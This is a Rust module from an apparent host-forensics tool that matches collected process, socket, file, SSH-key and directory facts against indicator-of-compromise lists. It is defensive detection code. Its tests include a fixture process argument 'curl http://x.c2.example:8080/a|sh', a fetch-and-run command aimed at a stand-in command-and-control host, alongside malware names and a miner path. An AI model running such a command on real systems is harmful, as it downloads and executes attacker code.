//! Which facts agree with a sign. Every kind is compared by its columns' roles, so new kinds need nothing here.

use super::Signs;
use super::store::Named;
use calma_formats::signs::Sort;
use calma_record::{Body, Fact, Role, Schema, Text, kinds};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;
use std::sync::OnceLock;

/// Matches kept of one look.
const MOST: usize = 2_000;
/// Longest text whose words are compared.
const LONGEST: usize = 64 << 10;
/// Kinds that are no facts of the host.
const OWN: &[&str] = &["footprint", "rule-set", "rule-match", "ioc-match", "clock-offset", "package-list"];

/// Every kind's columns.
fn schemas() -> &'static BTreeMap<String, Schema> {
    static ALL: OnceLock<BTreeMap<String, Schema>> = OnceLock::new();
    ALL.get_or_init(|| kinds::schemas().into_iter().map(|schema| (schema.kind.clone(), schema)).collect())
}

/// Matches so far, each sign and subject once.
#[derive(Debug, Default)]
pub(crate) struct Matches {
    seen: BTreeSet<(String, Text, u32)>,
    /// Whether there were more than are kept.
    pub(crate) more: bool,
}

impl Matches {
    /// The matches of one record that were not there before.
    pub(crate) fn of(&mut self, signs: &Signs, body: &Body) -> Vec<kinds::IocMatch> {
        let Body::Fact { fact, .. } = body else { return Vec::new() };
        let mut found = Vec::new();
        if !OWN.contains(&fact.kind()) {
            compare(signs, fact, &mut found);
        }
        found.retain(|one| {
            let fresh = !self.seen.contains(&(one.sign.clone(), one.path.clone(), one.pid));
            self.more |= fresh && self.seen.len() >= MOST;
            fresh && self.seen.len() < MOST && self.seen.insert((one.sign.clone(), one.path.clone(), one.pid))
        });
        found
    }
}

fn compare(signs: &Signs, fact: &Fact, found: &mut Vec<kinds::IocMatch>) {
    if let Fact::WalkedDirectory(directory) = fact {
        for name in &directory.names {
            let path = calma_join(directory.path.as_bytes(), name.as_bytes());
            if let Some(named) = std::str::from_utf8(&path).ok().and_then(|path| signs.path(path)) {
                let one = kinds::IocMatch {
                    path: path.into(),
                    kind: "walked-directory".into(),
                    column: "names".into(),
                    ..signs.fact(named)
                };
                found.push(one);
            }
        }
        return;
    }
    let (Ok(Value::Object(row)), Some(schema)) =
        (serde_json::to_value(inner(fact)), schemas().get(fact.kind()))
    else {
        return;
    };
    let (mut path, mut pid) = (Text::default(), 0);
    for column in &schema.columns {
        let Some(value) = row.get(&column.name) else { continue };
        match column.role {
            Role::Path if path.is_empty() => {
                path = value.as_str().and_then(Text::from_escaped).unwrap_or_default();
            }
            Role::Pid if pid == 0 => {
                let number = value.as_u64().or_else(|| value.as_array()?.first()?.as_u64());
                pid = number.and_then(|number| u32::try_from(number).ok()).unwrap_or(0);
            }
            _ => {}
        }
    }
    for column in &schema.columns {
        let mut look = |text: &str| {
            let Some(text) = Text::from_escaped(text) else { return };
            let bytes = text.as_bytes();
            let text = String::from_utf8_lossy(bytes.get(..LONGEST).unwrap_or(bytes));
            for named in agreeing(signs, &text, column.role, &column.name) {
                found.push(kinds::IocMatch {
                    kind: fact.kind().to_owned(),
                    column: column.name.clone(),
                    path: path.clone(),
                    pid,
                    ..signs.fact(named)
                });
            }
        };
        match row.get(&column.name) {
            Some(Value::String(text)) => look(text),
            Some(Value::Array(list)) => list.iter().filter_map(Value::as_str).for_each(&mut look),
            _ => {}
        }
    }
}

fn calma_join(directory: &[u8], name: &[u8]) -> Vec<u8> {
    let directory = directory.strip_suffix(b"/").unwrap_or(directory);
    [directory, b"/", name].concat()
}

/// The row of a fact, without the kind's name around it.
fn inner(fact: &Fact) -> Value {
    match serde_json::to_value(fact) {
        Ok(Value::Object(mut outer)) if outer.len() == 1 => {
            let key = outer.keys().next().cloned().unwrap_or_default();
            match outer.remove(&key) {
                Some(Value::Object(row)) => Value::Object(row),
                Some(other) => Value::Object([(key, other)].into_iter().collect()),
                None => Value::Null,
            }
        }
        Ok(value) => value,
        Err(_) => Value::Null,
    }
}

/// The signs that a column's text agrees with.
fn agreeing<'a>(signs: &'a Signs, text: &str, role: Role, column: &str) -> Vec<Named<'a>> {
    let mut found = Vec::new();
    if role == Role::Path || text.starts_with('/') {
        found.extend(signs.path(text));
    }
    if matches!(column, "name" | "names" | "program" | "arguments" | "target") {
        found.extend(signs.name(text.rsplit('/').next().unwrap_or_default()));
    }
    let apart = |c: char| c.is_whitespace() || "\"'`<>()[]{},;|&=@\\!".contains(c);
    for word in text.split(apart).filter(|word| word.len() >= 3) {
        found.extend(of_word(signs, word, word.len() != text.len()));
    }
    found
}

/// The sign that one word agrees with.
fn of_word<'a>(signs: &'a Signs, word: &str, part: bool) -> Option<Named<'a>> {
    if word.starts_with('/') {
        return if part { signs.path(word) } else { None };
    }
    if word.starts_with("SHA256:") {
        return signs.exact(Sort::Key, word);
    }
    if word.bytes().all(|b| b.is_ascii_hexdigit()) {
        let sort = match word.len() {
            32 => Some(Sort::Md5),
            40 => Some(Sort::Sha1),
            64 => Some(Sort::Sha256),
            _ => None,
        };
        if let Some(sort) = sort {
            return signs.exact(sort, &word.to_ascii_lowercase());
        }
    }
    let host = word.split_once("://").map_or(word, |(_, rest)| rest);
    let host = host.split(['/', '?', '#']).next().unwrap_or_default();
    if let Ok(address) = host.parse::<IpAddr>() {
        return signs.address(address);
    }
    let host = host
        .rsplit_once(':')
        .filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()))
        .map_or(host, |(host, _)| host);
    if let Ok(address) = host.parse::<IpAddr>() {
        return signs.address(address);
    }
    let named = host.contains('.')
        && host.len() <= 253
        && host.bytes().all(|b| b.is_ascii_alphanumeric() || b"-._".contains(&b));
    named.then(|| signs.domain(host.trim_end_matches('.').to_ascii_lowercase().as_str())).flatten()
}

#[cfg(test)]
mod tests {
    use super::super::read_signs;
    use super::*;
    use calma_host::Mem;
    use calma_record::{Digest, Source};

    const LIST: &str = "192.0.2.0/24 # pool\nc2.example\n/tmp/.X1*\nkinsing\nSHA256:ZJ9t8C1aYvM0O1Ck2o3h1eXcdo3QGJX3r3y8kNcJ1Zc\n\
                        d41d8cd98f00b204e9800998ecf8427e\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n";

    fn found(fact: impl Into<Fact>) -> Vec<(String, Text, u32)> {
        let signs = read_signs(&Mem::new().file("/l", LIST), &[b"/l".to_vec()]).unwrap();
        let body = Body::Fact { from: Source::file("/x"), fact: Box::new(fact.into()) };
        let all = Matches::default().of(&signs, &body);
        all.into_iter().map(|one| (one.sort, one.path, one.pid)).collect()
    }

    #[test]
    fn facts_of_every_sort_are_compared_by_their_columns() {
        let text = |text: &str| Text::from(text);
        let one = |sort: &str, path: &str, pid| vec![(sort.to_owned(), text(path), pid)];
        let arguments = vec![text("sh"), text("-c"), text("curl http://x.c2.example:8080/a|sh")];
        assert_eq!(found(kinds::Process { pid: 7, arguments, ..Default::default() }), one("domain", "", 7));
        assert_eq!(
            found(kinds::Process { pid: 8, program: Some(text("/opt/k/kinsing")), ..Default::default() }),
            one("file name", "/opt/k/kinsing", 8)
        );
        let socket = kinds::Socket { remote: text("192.0.2.77"), pids: vec![9], ..Default::default() };
        assert_eq!(found(socket), one("address", "", 9));
        let connection = kinds::Connection { to: "[::ffff:192.0.2.5]:443".into(), ..Default::default() };
        assert_eq!(found(connection), one("address", "", 0));
        let key = kinds::AuthorizedKey {
            path: text("/root/.ssh/authorized_keys"),
            fingerprint: "SHA256:ZJ9t8C1aYvM0O1Ck2o3h1eXcdo3QGJX3r3y8kNcJ1Zc".into(),
            ..Default::default()
        };
        assert_eq!(found(key), one("ssh key", "/root/.ssh/authorized_keys", 0));
        let file = kinds::File { path: text("/a"), digest: Some(Digest::of(b"")), ..Default::default() };
        assert_eq!(found(file), one("SHA-256", "/a", 0));
        let digests = kinds::FileDigests {
            path: text("/b"),
            md5: "d41d8cd98f00b204e9800998ecf8427e".into(),
            ..Default::default()
        };
        assert_eq!(found(digests), one("MD5", "/b", 0));
        let walked = kinds::WalkedDirectory {
            path: text("/tmp"),
            names: vec![text("ok"), text(".X1-miner")],
            ..Default::default()
        };
        assert_eq!(found(walked), one("path", "/tmp/.X1-miner", 0));
    }

    #[test]
    fn what_only_resembles_a_sign_is_none() {
        let process = kinds::Process {
            pid: 7,
            arguments: vec!["notc2.example".into(), "/tmp/X1".into(), "192.0.3.1".into()],
            ..Default::default()
        };
        assert!(found(process).is_empty());
    }
}
